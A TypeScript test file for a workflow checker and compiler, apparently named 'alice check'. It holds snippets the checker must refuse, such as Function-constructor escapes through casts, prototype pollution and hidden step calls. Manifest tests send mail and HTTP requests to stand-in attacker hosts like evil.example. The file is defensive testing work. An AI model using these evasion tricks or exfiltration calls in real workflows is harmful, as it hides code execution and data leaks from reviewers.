/**
 * Round 3 of the adversarial review of `alice check`: whole workflows, as a user or an LLM would
 * write them, run through the real checker (one program for all, as `alice check` does) and the
 * real compiler (for what the manifest tells a reviewer). Impure ones must be refused by the
 * rule named; pure ones must pass with no diagnostic at all.
 */
import { describe, expect, it } from 'vitest';
import { checkSources } from '../../compiler/check.js';
import { compileSource } from '../../compiler/compile.js';
import { compileDslSource } from '../../compiler/dsl/index.js';
import type { Diagnostic } from '../../compiler/diagnostic.js';
import { testCatalog } from './rule-cases.js';

const imports = 'import { kv, email, http, sleep, waitForEvent, now, random, log, ActionError } from "alice";\n';

interface Refused {
  name: string;
  /** The body of `export default async function (input: { [key: string]: any }) { … }`, or a whole module. */
  code: string;
  rule: string;
  /** 1-based line in `code` the diagnostic points at. */
  line: number;
}

function moduleOf(code: string): string {
  return /^\s*(import|export|\/\/|\/\*)/.test(code) ? code : `${imports}export default async function (input: { [key: string]: any }) {\n${code}\n}\n`;
}
const offsetOf = (code: string): number => (moduleOf(code) === code ? 0 : 2);

const refused: Refused[] = [
  // Comments that silence TypeScript let a value pass for what it is not.
  { name: '@ts-nocheck lets a function pass for a plain object and reach the Function constructor', rule: 'alice/no-type-suppression', line: 2, code: '// @ts-nocheck\nimport { log } from "alice";\nexport default async function (input: { code: string }) {\n  const g: { x: number } = () => 0;\n  const F = g["constructor"];\n  return F(input.code)();\n}\n' },
  { name: '@ts-ignore makes a Date a string, which then prints in local time', rule: 'alice/no-type-suppression', line: 2, code: '// @ts-ignore\nconst label: string = new Date(now());\nreturn `at ${label}`;' },
  { name: '@ts-expect-error hides a wrong action argument', rule: 'alice/no-type-suppression', line: 2, code: '// @ts-expect-error\nawait kv.set({ key: 42, value: 1 });' },
  // The Function constructor through structural types and casts.
  { name: 'a function with extra properties typed as a plain object', rule: 'alice/no-dynamic-code', line: 2, code: 'const g: { run: number } = Object.assign(() => 0, { run: 1 });\nconst F = g.constructor as FunctionConstructor;\nreturn F("return 1")();' },
  { name: 'a function cast to an interface', rule: 'alice/no-dynamic-code', line: 3, code: 'interface Job { id: string }\nconst job = (() => 0) as unknown as Job;\nconst F = job.constructor as (code: string) => () => unknown;\nreturn F("return 2")();' },
  { name: 'constructor of constructor by an input key, kept in a const', rule: 'alice/no-dynamic-code', line: 3, code: 'const k = input.k as string;\nconst table: Record<string, number> = {};\nconst F = (table[k] as any)[k] as FunctionConstructor;\nreturn F("return 3")();' },
  // Built-in prototypes reached in ways the checker did not follow.
  { name: 'Object.prototype polluted through an object literal\'s constructor', rule: 'alice/no-global-mutation', line: 1, code: '({}).constructor.prototype.isAdmin = true;\nreturn ({} as { isAdmin?: boolean }).isAdmin;' },
  { name: 'a prototype held in a let', rule: 'alice/no-global-mutation', line: 3, code: 'let proto: any = null;\nproto = Object.getPrototypeOf([]);\nproto.sum = function () { return 0; };' },
  // The wall clock through Function.prototype methods of Date.
  { name: 'Date.call(null) is Date() called as a function', rule: 'alice/no-wall-clock', line: 1, code: 'const stamp = Date.call(null);\nreturn stamp;' },
  { name: 'a bound Date constructed without arguments', rule: 'alice/no-wall-clock', line: 1, code: 'const Clock = Date.bind(null);\nreturn new Clock().toISOString();' },
  // Code the engine runs without a call expression: tagged templates, getters, decorators, fields.
  { name: 'a catch-all around a tagged template whose tag starts a step', rule: 'alice/no-swallowed-suspend', line: 2, code: 'function remember(s: TemplateStringsArray, v: string) { return kv.set({ key: s[0] + v, value: 1 }); }\ntry { await remember`seen:${input.id}`; } catch { log("ignored"); }' },
  { name: 'a catch-all around a class getter that starts a step', rule: 'alice/no-swallowed-suspend', line: 3, code: 'class Settings { get theme() { return kv.get({ key: "theme" }); } }\nconst settings = new Settings();\ntry { return await settings.theme; } catch { return "light"; }' },
  { name: 'a tagged template that starts a step while the module loads', rule: 'alice/workflow-shape', line: 3, code: 'import { kv } from "alice";\nfunction fetchKey(s: TemplateStringsArray) { return kv.get({ key: s[0] }); }\nconst boot = fetchKey`config`;\nexport default async function () { return await boot; }\n' },
  { name: 'a getter that starts a step, read while the module loads', rule: 'alice/workflow-shape', line: 3, code: 'import { kv } from "alice";\nconst config = { get value() { return kv.get({ key: "config" }); } };\nconst pending = config.value;\nexport default async function () { return await pending; }\n' },
  { name: 'a class decorator factory that starts a step', rule: 'alice/workflow-shape', line: 3, code: 'import { kv } from "alice";\nfunction registered(name: string) { const p = kv.set({ key: name, value: 1 }); return (t: unknown, c: ClassDecoratorContext) => { void p; void t; void c; }; }\n@registered("svc") class Service {}\nexport default async function () { return new Service(); }\n' },
  { name: 'new of a class whose field starts a step, at module level', rule: 'alice/workflow-shape', line: 3, code: 'import { kv } from "alice";\nclass Cache { ready = kv.get({ key: "warm" }); }\nconst cache = new Cache();\nexport default async function () { return await cache.ready; }\n' },
  { name: 'module augmentation of "alice"', rule: 'alice/workflow-shape', line: 2, code: 'import { kv } from "alice";\ndeclare module "alice" { export const admin: { wipe(): Promise<void> }; }\nexport default async function () { return kv.get({ key: "a" }); }\n' },
  // Failing until compiler/ts/facts.ts and compiler/rules/no-floating-actions.ts learn them (see the report).
  { name: 'a tagged template whose tag starts a step, as a statement', rule: 'alice/no-floating-actions', line: 2, code: 'function audit(s: TemplateStringsArray, v: unknown) { return kv.set({ key: s[0], value: v }); }\naudit`login:${input.user}`;\nreturn "ok";' },
  { name: 'a promise queue of steps that is never awaited', rule: 'alice/no-floating-actions', line: 2, code: 'let chain: Promise<unknown> = Promise.resolve();\nfor (const key of ["a", "b"]) chain = chain.then(() => kv.set({ key, value: 1 }));\nreturn "queued";' },
  { name: 'Promise.resolve().then(step) kept and dropped', rule: 'alice/no-floating-actions', line: 1, code: 'const later = Promise.resolve().then(() => kv.delete({ key: "a" }));\nreturn "done";' },
  { name: 'a step-starting replacer cast to any', rule: 'alice/no-floating-actions', line: 1, code: 'const s = String(input.text).replace(/@\\w+/g, ((m: string) => email.send({ to: m, subject: "mention", body: "" })) as any);\nreturn s;' },
  { name: 'valueOf returning a step, run by a coercion', rule: 'alice/no-floating-actions', line: 1, code: 'const counter = { valueOf: () => kv.set({ key: "hits", value: 1 }) };\nreturn +counter;' },
  { name: 'a custom iterator whose next() starts steps, iterated without await', rule: 'alice/no-floating-actions', line: 2, code: 'const keys = { [Symbol.iterator]() { let i = 0; return { next: () => (i < 2 ? { value: kv.get({ key: String(i++) }), done: false } : { value: undefined, done: true }) }; } };\nfor (const p of keys) log("started", typeof p);\nreturn 1;' },
  // Failing until compiler/rules/no-locale.ts learns them (see the report).
  { name: 'new String(date) is its local-time toString()', rule: 'alice/no-locale', line: 1, code: 'const s = new String(new Date(now()));\nreturn s.valueOf();' },
  { name: 'dates.map(String) writes each in local time', rule: 'alice/no-locale', line: 2, code: 'const days = [new Date(now())];\nreturn days.map(String);' },
  { name: 'Symbol.toPrimitive of a Date with the default hint', rule: 'alice/no-locale', line: 2, code: 'const d = new Date(now());\nreturn d[Symbol.toPrimitive]("default");' },
  { name: 'String.call(null, date)', rule: 'alice/no-locale', line: 1, code: 'const s = String.call(null, new Date(now()));\nreturn s;' },
];

const passes: Array<{ name: string; code: string }> = [
  { name: 'an async generator of pages consumed with for await', code: 'async function* pages() { for (let i = 0; i < 3; i++) yield await kv.get({ key: `page:${i}` }); }\nconst out: unknown[] = [];\nfor await (const p of pages()) out.push(p);\nreturn out;' },
  { name: 'a generator of step promises, each awaited', code: 'function* loads() { yield kv.get({ key: "a" }); yield kv.get({ key: "b" }); }\nconst out: unknown[] = [];\nfor (const p of loads()) out.push(await p);\nreturn out;' },
  { name: 'a class with a private field, a getter and a static block', code: 'class Tally { static names: Record<string, number> = {}; static { Tally.names.a = 1; } #n = 0; get n() { return this.#n; } add() { this.#n++; return this; } }\nreturn new Tally().add().add().n + Tally.names.a;' },
  { name: 'a pure tagged template', code: 'function sql(s: TemplateStringsArray, ...v: unknown[]) { return { text: s.join("?"), values: v }; }\nreturn sql`select * from t where id = ${input.id}`;' },
  { name: 'library callbacks that compute', code: 'const xs = Array.from({ length: 3 }, (_, i) => i * 2).sort((a, b) => b - a);\nconst j = JSON.parse(\'{"a":1}\', (k, v) => (typeof v === "number" ? v + 1 : v));\nreturn { xs, j, s: "a-b".replace(/-/g, (m) => m + m) };' },
  { name: 'deterministic built-ins an LLM reaches for', code: 'const o: Record<string, number> = { "2": 1, "1": 2, b: 3 };\nconst cache = new WeakMap<object, number>();\nconst key = {};\ncache.set(key, 1);\nreturn { keys: Object.keys(o), nfc: String(input.name ?? "").normalize("NFC"), tag: Symbol("t").description, first: new Error("x").stack?.split("\\n")[0], hit: cache.get(key), m: Math.hypot(3, 4) };' },
  { name: 'an isPlainObject check and an error class name', code: 'const v: unknown = input.v;\nconst plain = typeof v === "object" && v !== null && (v as object).constructor === Object;\ntry { await kv.get({ key: "a" }); } catch (err) { log((err as Error).constructor.name); throw err; }\nreturn plain;' },
  { name: 'a retry loop with sleep and ActionError', code: 'for (let i = 0; i < 3; i++) {\n  try { return await http.fetch({ url: "https://api.example.com/x" }); }\n  catch (err) { if (err instanceof ActionError && err.code === "BUSY") { await sleep("1s"); continue; } throw err; }\n}\nreturn null;' },
  { name: 'labels, new.target, arguments, comma, void and optional calls', code: 'class A { constructor() { if (new.target === A) log("a"); } }\nfunction sum(..._xs: number[]) { let t = 0; for (let i = 0; i < arguments.length; i++) t += arguments[i] as number; return t; }\nouter: for (const a of [1, 2]) { for (const b of [3]) { if (a * b > 3) break outer; } }\nconst f = input.f as (() => number) | undefined;\nconst x = (log("x"), f?.());\nvoid x;\nreturn [new A() instanceof A, sum(1, 2)];' },
  { name: 'a pure decorator and // @ts-check', code: '// @ts-check\nimport { log } from "alice";\nfunction logged(t: unknown, c: ClassDecoratorContext) { log("defined", String(c.name)); void t; }\n@logged class Order { constructor(readonly id: string) {} }\nexport default async function (input: { id: string }) { return new Order(input.id).id; }\n' },
  { name: 'satisfies, as const and non-null', code: 'const modes = ["fast", "safe"] as const satisfies readonly string[];\nconst pick = modes.find((m) => m === input.mode) ?? modes[0];\nconst v = await kv.get({ key: pick })!;\nreturn v;' },
  { name: 'a step chain awaited and Promise.all over a map', code: 'const first = await kv.get({ key: "a" }).then((r) => r ?? null);\nconst rest = await Promise.all(["b", "c"].map((key) => kv.get({ key })));\nreturn [first, ...rest];' },
  { name: 'UTC date formatting and a class toString in a template', code: 'class Money { constructor(readonly cents: number) {} toString() { return (this.cents / 100).toFixed(2); } }\nconst d = new Date(now());\nreturn `${d.getUTCFullYear()}-${String(d.getUTCMonth() + 1).padStart(2, "0")} ${new Money(150)}`;' },
];

describe('round 3: tricky workflows through alice check', () => {
  let byFile: Map<string, Diagnostic[]> | undefined;
  const all = [...refused.map((c, i) => ({ path: `/virtual/round3/refused-${i}.ts`, text: moduleOf(c.code) })), ...passes.map((c, i) => ({ path: `/virtual/round3/pass-${i}.ts`, text: moduleOf(c.code) }))];
  const diagnosticsOf = (path: string): Diagnostic[] => {
    if (byFile === undefined) {
      byFile = new Map();
      for (const d of checkSources(all.map((s) => ({ ok: true as const, ...s })), { catalog: testCatalog }).diagnostics) byFile.set(d.file, [...(byFile.get(d.file) ?? []), d]);
    }
    return byFile.get(path) ?? [];
  };

  refused.forEach((c, i) => {
    it(`refuses ${c.name} (${c.rule})`, () => {
      const ds = diagnosticsOf(`/virtual/round3/refused-${i}.ts`);
      const shown = ds.map((d) => `${d.line - offsetOf(c.code)}:${d.column} ${d.rule}`);
      expect(ds.filter((d) => d.rule === c.rule).map((d) => d.line - offsetOf(c.code)), JSON.stringify(shown)).toContain(c.line);
    });
  });

  it('leaves an action the catalog lacks to TypeScript, with no second, misleading diagnostic', () => {
    const code = 'return await kv.put({ key: "a" });';
    const ds = checkSources([{ ok: true as const, path: '/virtual/round3/hallucinated.ts', text: moduleOf(code) }], { catalog: testCatalog }).diagnostics;
    expect(ds.map((d) => `${d.line - offsetOf(code)} ${d.rule}`)).toEqual(['1 ts2339']);
  });

  passes.forEach((c, i) => {
    it(`passes ${c.name}`, () => {
      const ds = diagnosticsOf(`/virtual/round3/pass-${i}.ts`);
      expect(ds.map((d) => `${d.line - offsetOf(c.code)}:${d.column} ${d.rule} ${d.message}`)).toEqual([]);
    });
  });
});

/** The manifest's record of the fields of each call of `action`, as compiled from `code`. */
function argumentsOf(code: string, action: string): Array<Record<string, unknown>> {
  const { bundle, diagnostics } = compileSource({ ok: true, path: '/virtual/round3/manifest.ts', text: moduleOf(code) }, { catalog: testCatalog });
  expect(diagnostics.map((d) => `${d.rule} ${d.message}`)).toEqual([]);
  const records = (bundle!.manifest.arguments ?? {})[action] ?? [];
  return records.map((r) => r.args as Record<string, unknown>);
}

describe('round 3: the manifest shows every value written in the source that an argument can take', () => {
  it('lists a recipient kept in a const, returned by a helper, or named by an enum member', () => {
    const code = [
      'enum Team { Ops = "ops@corp.example" }',
      'function boss() { return "boss@corp.example"; }',
      'const to = "x@evil.example";',
      'await email.send({ to, subject: "a", body: "b" });',
      'await email.send({ to: boss(), subject: "a", body: "b" });',
      'await email.send({ to: Team.Ops, subject: "a", body: "b" });',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([{ literal: 'x@evil.example' }, { literal: 'boss@corp.example' }, { literal: 'ops@corp.example' }]);
  });

  it('lists a recipient in a frozen config, and what a recursive helper or a helper called twice gives', () => {
    const code = [
      'const CONFIG = Object.freeze({ recipient: "x@evil.example" });',
      'function pick(v: unknown) { return typeof v === "string" ? v : "ops@corp.example"; }',
      'function addr(n: number): string { return n > 0 ? addr(n - 1) : "y@evil.example"; }',
      'await email.send({ to: CONFIG.recipient, subject: "a", body: "b" });',
      'await email.send({ to: pick(input.a) ?? pick(input.b), subject: "a", body: "b" });',
      'await email.send({ to: addr(3), subject: "a", body: "b" });',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([{ literal: 'x@evil.example' }, { literals: ['ops@corp.example'], from: ['input'] }, { literal: 'y@evil.example' }]);
  });

  it('lists both branches of a ternary, and the default of ?? and || next to the input', () => {
    const code = [
      'await email.send({ to: input.vip ? "boss@corp.example" : "x@evil.example", subject: "a", body: "b" });',
      'await email.send({ to: input.to ?? "x@evil.example", subject: "a", body: "b" });',
      'await email.send({ to: input.to || "y@evil.example", subject: "a", body: "b" });',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([
      { literals: ['boss@corp.example', 'x@evil.example'] },
      { literals: ['x@evil.example'], from: ['input'] },
      { literals: ['y@evil.example'], from: ['input'] },
    ]);
  });

  it('lists a parameter\'s default also when every call passes a value that may be undefined', () => {
    const code = [
      'async function notify(to = "boss@corp.example") { await email.send({ to, subject: "a", body: "b" }); }',
      'await notify(input.to);',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([{ literals: ['boss@corp.example'], from: ['input'] }]);
  });

  it('does not claim a helper\'s literal when the helper may be another function at run time', () => {
    const code = [
      'class Route { to(): string { return "ops@corp.example"; } }',
      'class Vip extends Route { override to(): string { return "boss@corp.example"; } }',
      'const r: Route = input.vip ? new Vip() : new Route();',
      'await email.send({ to: r.to(), subject: "a", body: "b" });',
      'let pick = (): string => "ops@corp.example";',
      'if (input.vip) pick = () => "boss@corp.example";',
      'await email.send({ to: pick(), subject: "a", body: "b" });',
      'const table = { to: (): string => "ops@corp.example" };',
      'if (input.vip) table.to = () => "boss@corp.example";',
      'await email.send({ to: table.to(), subject: "a", body: "b" });',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([{ from: ['computed'] }, { from: ['computed'] }, { from: ['computed'] }]);
  });

  it('does not claim the members of an object literal that a spread or a function may change', () => {
    const code = [
      'async function notify(o: { to: string }) { await email.send({ to: o.to, subject: "a", body: "b" }); }',
      'await notify({ to: "ops@corp.example", ...input.extra });',
      'const cfg = { to: "ops@corp.example", use: function (this: { to: string }, v: string) { this.to = v; } };',
      'cfg.use(input.to);',
      'await email.send({ to: cfg.to, subject: "a", body: "b" });',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([{ from: ['input'] }, { from: ['computed'] }]);
  });

  it('counts a helper\'s bare return and reachable end as a value that is not the literal, and + of numbers as no prefix', () => {
    const code = [
      'function suffix(y: number | undefined): string | undefined { if (y === undefined) return; return "current"; }',
      'await kv.set({ key: `report:${suffix(input.y)}`, value: 1 });',
      'function scope(all: boolean): string | undefined { if (!all) return "report:"; }',
      'await kv.list({ prefix: scope(input.all) });',
      'await kv.set({ key: "page-" + (1 + input.page), value: 10 + input.extra });',
    ].join('\n');
    expect(argumentsOf(code, 'kv.set').map((a) => a.key)).toEqual([{ template: 'report:${…}', prefix: 'report:', from: ['computed'] }, { prefix: 'page-', from: ['input'] }]);
    expect(argumentsOf(code, 'kv.set')[1].value).toEqual({ from: ['input'] });
    expect(argumentsOf(code, 'kv.list').map((a) => a.prefix)).toEqual([{ literals: ['report:'], from: ['computed'] }]);
  });

  it('marks a field that only some of the object literals an argument may be write as optional, and no other', () => {
    const code = [
      'await kv.list(input.all ? {} : { prefix: "report:" });',
      'await kv.list({ prefix: "page:" });',
      'await email.send({ to: "ops@corp.example", subject: "s", body: "b", ...(input.cc ? { cc: "audit@corp.example" } : {}) });',
      'await email.send({ to: "ops@corp.example", ...(input.a ? { cc: "a@corp.example" } : {}), ...(input.b ? { cc: "b@corp.example" } : {}), subject: "s", body: "b" });',
      'await email.send({ to: "ops@corp.example", ...(input.a ? { subject: "a" } : {}), subject: "c", body: "b" });',
      'await email.send({ to: "ops@corp.example", ...(input.a ? { cc: "a@corp.example" } : {}), ...(input.b ? { cc: "b@corp.example" } : { cc: "c@corp.example" }), subject: "s", body: "b" });',
    ].join('\n');
    expect(argumentsOf(code, 'kv.list').map((a) => a.prefix)).toEqual([{ literal: 'report:', optional: true }, { literal: 'page:' }]);
    const sends = argumentsOf(code, 'email.send');
    expect(sends[0]).toEqual({ to: { literal: 'ops@corp.example' }, subject: { literal: 's' }, body: { literal: 'b' }, cc: { literal: 'audit@corp.example', optional: true } });
    // Neither spread may write it, so either may leave it out.
    expect(sends[1].cc).toEqual({ literals: ['a@corp.example', 'b@corp.example'], optional: true });
    // Written after the spread: always there.
    expect(sends[2].subject).toEqual({ literal: 'c' });
    // Both branches of the second spread write it: there, and only theirs, whatever the first did.
    expect(sends[3].cc).toEqual({ literals: ['b@corp.example', 'c@corp.example'] });
  });

  it('marks a field whose value may be undefined on some path as optional: a let assigned on some paths, a key that misses, a function', () => {
    const code = [
      'let scope: string | undefined;',
      'if (input.only) scope = "report:";',
      'await kv.list({ prefix: scope });',
      'let kind: string | undefined;',
      'switch (input.k) { case "a": kind = "page:"; break; case "b": kind = "report:"; break; }',
      'await kv.list({ prefix: kind });',
      'const PREFIXES = ["report:", "page:"];',
      'await kv.list({ prefix: PREFIXES[input.all ? 2 : 0] });',
      'await kv.list({ prefix: PREFIXES[input.all ? 1 : 0] });',
      'function everything(): string { return ""; }',
      'await kv.list({ prefix: (input.all ? everything : "report:") as unknown as string });',
    ].join('\n');
    const lists = argumentsOf(code, 'kv.list').map((a) => a.prefix);
    expect(lists[0]).toEqual({ literal: 'report:', optional: true });
    expect(lists[1]).toEqual({ literals: ['page:', 'report:'], optional: true });
    // Index 2 is not there: undefined, which the field's value may be.
    expect(lists[2]).toMatchObject({ literals: ['report:'], from: ['computed'] });
    // Both keys are there: always one of them.
    expect(lists[3]).toEqual({ literals: ['page:', 'report:'] });
    expect(lists[4]).toMatchObject({ literals: ['report:'], from: ['computed'] });
  });

  it('maps arguments to parameters past a this: parameter, and does not follow a helper called through Reflect.apply', () => {
    const code = [
      'function notify(this: void, to: string, subject: string) { return email.send({ to, subject, body: "b" }); }',
      'await notify("boss@corp.example", input.s);',
      'const mailer = { async send(to: string) { await email.send({ to, subject: "s", body: "b" }); } };',
      'await mailer.send("a@corp.example");',
      'await Reflect.apply(mailer.send, mailer, [input.to]);',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => [a.to, a.subject])).toEqual([
      [{ literal: 'boss@corp.example' }, { from: ['input'] }],
      [{ literals: ['a@corp.example'], from: ['computed'] }, { literal: 's' }],
    ]);
  });

  it('trusts a method\'s literal only through a receiver written as the literal that declares it', () => {
    const code = [
      'let route = { address: () => "support@corp.example" };',
      'if (input.vip) route = { address: () => "oncall@corp.example" };',
      'await email.send({ to: route.address(), subject: "a", body: "b" });',
      'const fixed = { address: () => "ops@corp.example" };',
      'await email.send({ to: fixed.address(), subject: "a", body: "b" });',
      'const DEFAULTS = { low: "support@corp.example" };',
      'const ROUTES = { ...DEFAULTS, high: "oncall@corp.example" };',
      'await email.send({ to: ROUTES[input.urgent ? "high" : "low"], subject: "a", body: "b" });',
      'var subject = "Daily";',
      'if (input.weekly) { var subject = "Weekly"; }',
      'await email.send({ to: "team@corp.example", subject, body: "b" });',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([{ from: ['computed'] }, { literal: 'ops@corp.example' }, { from: ['computed', 'input'] }, { literal: 'team@corp.example' }]);
    expect(argumentsOf(code, 'email.send')[3].subject).toEqual({ from: ['computed'] });
  });

  it('names a URL prefix\'s host only where something ends the host', () => {
    const code = [
      'await http.fetch({ url: "https://api.partner.example" + input.path });',
      'await http.fetch({ url: "https://api.partner.example/" + input.path });',
      'await http.fetch({ url: `https://api.partner.example:8443${input.path}` });',
    ].join('\n');
    expect(argumentsOf(code, 'http.fetch').map((a) => (a.url as { host?: string }).host)).toEqual([undefined, 'api.partner.example', 'api.partner.example']);
  });

  it('follows every assignment of a let and of a parameter, and the parameter\'s default', () => {
    const code = [
      'let to: string = input.to;',
      'if (input.flag) to = "x@evil.example";',
      'await email.send({ to, subject: "a", body: "b" });',
      'async function notify(who: string = "ops@corp.example") { if (!who.includes("@")) who = "y@evil.example"; await email.send({ to: who, subject: "a", body: "b" }); }',
      'await notify();',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([
      { literals: ['x@evil.example'], from: ['input'] },
      { literals: ['ops@corp.example', 'y@evil.example'] },
    ]);
  });

  it('sees a literal laundered through a helper\'s object parameter, a const object and a spread', () => {
    const code = [
      'async function send(m: { to: string; subject: string; body: string }) { await email.send(m); }',
      'await send({ to: "x@evil.example", subject: "a", body: "b" });',
      'const base = { to: "y@evil.example", subject: "a" };',
      'await email.send({ ...base, body: "b" });',
      'const msg = { to: "z@evil.example", subject: "a", body: input.body as string };',
      'await email.send(msg);',
    ].join('\n');
    expect(argumentsOf(code, 'email.send')).toEqual([
      { to: { literal: 'x@evil.example' }, subject: { literal: 'a' }, body: { literal: 'b' } },
      { to: { literal: 'y@evil.example' }, subject: { literal: 'a' }, body: { literal: 'b' } },
      { to: { literal: 'z@evil.example' }, subject: { literal: 'a' }, body: { from: ['input'] } },
    ]);
  });

  it('lists every element of a literal list a loop or a map callback sends to', () => {
    const code = [
      'for (const to of ["a@corp.example", "x@evil.example"]) await email.send({ to, subject: "a", body: "b" });',
      'await Promise.all(["b@corp.example", "y@evil.example"].map((to) => email.send({ to, subject: "a", body: "b" })));',
    ].join('\n');
    expect(argumentsOf(code, 'email.send').map((a) => a.to)).toEqual([{ literals: ['a@corp.example', 'x@evil.example'] }, { literals: ['b@corp.example', 'y@evil.example'] }]);
  });

  it('writes constant parts of a URL in, so its host shows', () => {
    const code = [
      'const host = "evil.example";',
      'const api = "https://api.partner.example";',
      'await http.fetch({ url: `https://${host}/collect` });',
      'await http.fetch({ url: "https://" + host + "/v2" });',
      'await http.fetch({ url: `${api}/orders/${input.id}` });',
    ].join('\n');
    expect(argumentsOf(code, 'http.fetch').map((a) => a.url)).toEqual([
      { literal: 'https://evil.example/collect', host: 'evil.example' },
      { literal: 'https://evil.example/v2', host: 'evil.example' },
      { template: 'https://api.partner.example/orders/${…}', prefix: 'https://api.partner.example/orders/', host: 'api.partner.example', from: ['input'] },
    ]);
  });

  it('does not claim a literal a later write, spread or run-time key can replace', () => {
    const code = [
      'const cfg = { to: "ok@corp.example" };',
      '(cfg as { to: string }).to = String(input.to);',
      'await email.send({ to: cfg.to, subject: "a", body: "b" });',
      'await email.send({ to: "ok@corp.example", subject: "a", body: "b", ...(input.extra as {}) });',
      'await email.send({ to: "ok@corp.example", subject: "a", body: "b", [input.k as string]: "x@evil.example" });',
      'let who: string = "ok@corp.example";',
      '[who] = [String(input.to)];',
      'await email.send({ to: who, subject: "a", body: "b" });',
    ].join('\n');
    const [mutated, spread, keyed, destructured] = argumentsOf(code, 'email.send');
    expect(mutated.to).toEqual({ from: ['computed', 'input'] });
    expect(spread.to).toEqual({ literals: ['ok@corp.example'], from: ['input'] });
    expect(spread['...']).toEqual({ from: ['input'] });
    expect(keyed.to).toEqual({ literals: ['ok@corp.example', 'x@evil.example'] });
    expect(keyed['?']).toEqual({ literals: ['x@evil.example'], from: ['computed'] });
    expect(destructured.to).toEqual({ literals: ['ok@corp.example'], from: ['computed'] });
  });

  it('lists null for a .alice function whose end is reachable (it returns null there)', () => {
    const text = ['workflow "ends"', 'fn pick(vip: boolean) {', '  if vip {', '    return "boss@corp.example"', '  }', '}', 'kv.set(key: "k", value: pick(input.vip))', ''].join('\n');
    const { bundle, diagnostics } = compileDslSource({ ok: true, path: 'ends.alice', text }, { catalog: testCatalog });
    expect(diagnostics.map((d) => `${d.rule} ${d.message}`)).toEqual([]);
    expect((bundle!.manifest.arguments ?? {})['kv.set'].map((r) => r.args.value)).toEqual([{ literals: ['boss@corp.example', null] }]);
  });

  it('does the same for a .alice workflow: names, ?? defaults, loops over literal lists, functions\' returns', () => {
    const text = [
      'workflow "round3"',
      'fn boss(n: number) {',
      '  if n > 1 {',
      '    return "x@evil.example"',
      '  }',
      '  return "ops@corp.example"',
      '}',
      'let fallback = "y@evil.example"',
      'email.send(to: input.to ?? fallback, subject: "a", body: "b")',
      'for to in ["a@corp.example", "z@evil.example"] {',
      '  email.send(to: to, subject: "a", body: "b")',
      '}',
      'email.send(to: boss(2), subject: "a", body: "b")',
      '',
    ].join('\n');
    const { bundle, diagnostics } = compileDslSource({ ok: true, path: 'round3.alice', text }, { catalog: testCatalog });
    expect(diagnostics.map((d) => `${d.rule} ${d.message}`)).toEqual([]);
    expect((bundle!.manifest.arguments ?? {})['email.send'].map((r) => r.args.to)).toEqual([
      { literals: ['y@evil.example'], from: ['input'] },
      { literals: ['a@corp.example', 'z@evil.example'] },
      { literals: ['ops@corp.example', 'x@evil.example'] },
    ]);
  });

  it('still says where input, step results and computed values come from', () => {
    const code = [
      'const to = input.customer as string;',
      'const page = await http.fetch({ url: "https://api.example.com/x" });',
      'await email.send({ to, subject: "Order " + input.id, body: page.body });',
      'await email.send({ to: ["x", "evil.example"].join("@"), subject: "a", body: "b" });',
    ].join('\n');
    expect(argumentsOf(code, 'email.send')).toEqual([
      { to: { from: ['input'] }, subject: { prefix: 'Order ', from: ['input'] }, body: { from: ['action:http.fetch'] } },
      { to: { from: ['computed'] }, subject: { literal: 'a' }, body: { literal: 'b' } },
    ]);
  });
});
